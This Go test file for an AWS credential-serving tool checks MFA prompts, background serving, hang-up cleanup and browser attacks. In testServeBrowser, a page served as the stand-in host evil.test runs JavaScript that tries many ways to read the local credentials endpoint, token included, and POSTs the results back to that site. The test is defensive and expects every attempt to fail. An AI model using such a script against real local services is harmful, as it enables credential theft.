//go:build unix

package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"time"

	"aws-switch-role/internal/emulator"
)

// vars sets the variables of an endpoint that were written to a file, and has
// the SDKs read none of the user's files.
const vars = ". ./vars; export AWS_SHARED_CREDENTIALS_FILE=/dev/null AWS_CONFIG_FILE=/dev/null AWS_DEFAULT_REGION=us-east-1"

// ends makes the credentials that AWS gives next for an action end so soon.
func (p *place) ends(action string, in time.Duration) {
	p.server.Inject(emulator.Fault{Action: action, Count: 1, Effect: emulator.Replace("Expiration", p.now().Add(in).UTC().Format(time.RFC3339))})
}

// testServeAsks needs a second code while it serves: it asks for it on its own
// terminal, once, and whoever wants the credentials is told so meanwhile.
func testServeAsks(p *place) {
	serving, x := p.openShell("bash"), p.openShell("bash")
	serving.run("", "true") // the settings of a shell that has run something
	atPrompt := serving.settings()
	p.ends("GetSessionToken", 30*time.Second)
	p.ends("AssumeRole", 30*time.Second)
	serving.line("aws-switch-role serve tempsession > vars")
	serving.answer()
	serving.expect("tempsession: 222222222222 role/Ops, until ")
	serving.expect("serving at http://127.0.0.1:")
	serving.expect("Ctrl-C ends it\n")
	serving.expect("note: SDKs prefer your profile default (~/.aws/credentials:2)")
	before := serving.settings()

	x.run("", vars)
	out, status := x.run("", "aws sts get-caller-identity") // which tries three times
	if status == 0 || !strings.Contains(out, "renewing them takes an answer of yours; answer on the terminal of aws-switch-role serve, then try again") {
		p.t.Errorf("status %d\n%s", status, out)
	}
	serving.answer()
	serving.expect("tempsession: 222222222222 role/Ops, until ")
	x.wantRun("", "aws sts get-caller-identity", opsSession)
	p.wantAsked("GetSessionToken", "AssumeRole", "GetSessionToken", "AssumeRole", "GetCallerIdentity")

	serving.press(ctrlC)
	if rest := serving.prompt(""); strings.Contains(rest, question) {
		p.t.Errorf("it asked once more:\n%s", rest)
	}
	if status := serving.status(""); status != 130 {
		p.t.Errorf("Ctrl-C: status %d", status)
	}

	// A role that wants a younger code is no different. Ctrl-C at the question
	// ends all.
	p.ends("AssumeRole", 30*time.Second)
	p.advance(30 * time.Second)
	serving.line("aws-switch-role serve " + emulator.DemoRole("Fresh") + " --source-profile default --mfa-serial " + emulator.DemoDevice + " > vars")
	serving.answer()
	serving.expect("serving at ")
	p.advance(61 * time.Minute)
	x.run("", vars)
	x.line("aws sts get-caller-identity")
	serving.expect(question)
	if hidden := serving.settings(); hidden == before {
		p.t.Error("the code would be shown")
	}
	serving.press(ctrlC)
	serving.prompt("")
	if status := serving.status(""); status != 130 {
		p.t.Errorf("Ctrl-C at the question: status %d", status)
	}
	if serving.settings() != atPrompt {
		p.t.Error("the terminal's settings are not as before")
	}
	x.prompt("")
	serving.exit()
	x.exit()
}

// testServeBackground has it in a shell's background, where a question would
// stop it: requests are answered there, too.
func testServeBackground(p *place) {
	x := p.openShell("bash")
	p.ends("GetSessionToken", 30*time.Second)
	p.ends("AssumeRole", 30*time.Second)
	x.line("mkfifo pipe; aws-switch-role serve tempsession --mfa-code " + p.code() + " > pipe & cat pipe > vars")
	x.prompt("")
	x.run("", vars)
	out, status := x.run("", "aws sts get-caller-identity")
	if status == 0 || !strings.Contains(out, "is needed again; end aws-switch-role serve, and start it again") {
		p.t.Errorf("status %d\n%s", status, out)
	}
	x.run("", "kill %1; wait %1")
	x.exit()
}

// testServeHangUp closes the terminal's window: no process is left.
func testServeHangUp(p *place) {
	x := p.openShell("bash")
	x.line("aws-switch-role serve open > vars")
	x.expect("serving at ")
	x.hangUp()
	p.deserted()
}

// testServeBrowser has a page of a site that leads to this machine ask for the
// credentials in all the ways that pages have, knowing even the token.
func testServeBrowser(p *place) {
	browser, err := exec.LookPath("chromium")
	if err != nil {
		p.t.Fatal("no chromium here: install the package chromium (make tools)")
	}
	x := p.openShell("bash")
	x.line("aws-switch-role serve open > vars")
	x.expect("serving at ")
	text, err := os.ReadFile(filepath.Join(p.home, "vars"))
	if err != nil {
		p.t.Fatal(err)
	}
	found := regexp.MustCompile(`URI='http://127.0.0.1:(\d+)(/\w+)'\n.*TOKEN='([\w-]+)'`).FindStringSubmatch(string(text))
	if found == nil {
		p.t.Fatalf("no variables in\n%s", text)
	}
	port, path, token := found[1], found[2], found[3]
	pages := map[string]string{
		"/":       `<!DOCTYPE html><script src=/script></script>`,
		"/script": fmt.Sprintf(browserScript, port, path, token),
		"/own":    "mine",
	}
	reports := make(chan string, 1)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			report, _ := io.ReadAll(r.Body)
			reports <- string(report)
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, pages[r.URL.Path])
	}))
	defer site.Close()
	browse := func(ctx context.Context, args ...string) *exec.Cmd {
		cmd := exec.CommandContext(ctx, browser, append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
			"--disable-background-networking", "--user-data-dir=" + filepath.Join(p.home, "browser"), "--host-resolver-rules=MAP evil.test 127.0.0.1"}, args...)...)
		cmd.Env = []string{p.mark, "HOME=" + p.home, "PATH=" + os.Getenv("PATH"), "TMPDIR=" + filepath.Join(p.home, "tmp")}
		cmd.Cancel = func() error { return cmd.Process.Signal(syscall.SIGTERM) }
		cmd.WaitDelay = patience
		return cmd
	}

	ctx, cancel := context.WithTimeout(p.t.Context(), patience)
	defer cancel()
	_, sitePort, _ := strings.Cut(strings.TrimPrefix(site.URL, "http://"), ":")
	cmd := browse(ctx, "--remote-debugging-port=0", "http://evil.test:"+sitePort+"/")
	if err := cmd.Start(); err != nil {
		p.t.Fatal(err)
	}
	select {
	case report := <-reports:
		if !strings.HasPrefix(report, "own read mine;") || strings.Count(report, "refused;") != 15 || strings.Count(report, "silent;") != 3 {
			p.t.Errorf("not all that the page tried failed:\n%s", report)
		}
	case <-ctx.Done():
		p.t.Error("the page did not run")
	}
	cancel()
	_ = cmd.Wait()

	// What rebinding comes to is the site's name with the endpoint's port.
	for url, answer := range map[string]string{"http://evil.test:" + port + path: "WrongHost", "http://127.0.0.1:" + port + path: "NotDirect"} {
		ctx, cancel := context.WithTimeout(p.t.Context(), patience)
		defer cancel()
		out, err := browse(ctx, "--dump-dom", url).Output()
		if err != nil || !strings.Contains(string(out), answer) {
			p.t.Errorf("%s: %v\n%s", url, err, out)
		}
	}
	x.press(ctrlC)
	x.prompt("")
	x.exit()
	if !p.t.Failed() {
		note(p.t, "rebinding in a browser", "18 ways in which a page asks, and 2 addresses that are typed: 0 answered with credentials")
	}
}

// browserScript asks by script, image and frame, and reports what of it could
// be read. It is given the port, the path and the token.
const browserScript = `
const hosts = ["127.0.0.1:%[1]s", "localhost:%[1]s", "evil.test:%[1]s"], path = "%[2]s", token = "%[3]s"
let report = ""
const note = (what, text) => report += what + (text ? " read " + text : " silent") + ";\n"
async function all() {
	note("own", await (await fetch("/own")).text())
	const known = {headers: {Authorization: token}}
	for (const host of hosts)
		for (const options of [{}, {mode: "no-cors"}, known, {mode: "no-cors", ...known}, {referrerPolicy: "no-referrer", ...known}])
			try {
				note(host, await (await fetch("http://" + host + path, options)).text())
			} catch (e) { report += host + " refused;\n" }
	for (const kind of ["script", "img", "iframe"])
		await new Promise(done => {
			const e = document.createElement(kind)
			e.onload = e.onerror = () => {
				let text = ""
				try { text = e.contentDocument.body.textContent } catch (_) {}
				note(kind, text)
				done()
			}
			e.src = "http://" + hosts[0] + path
			document.body.append(e)
		})
	await fetch("/report", {method: "POST", body: report})
}
addEventListener("load", all)
`
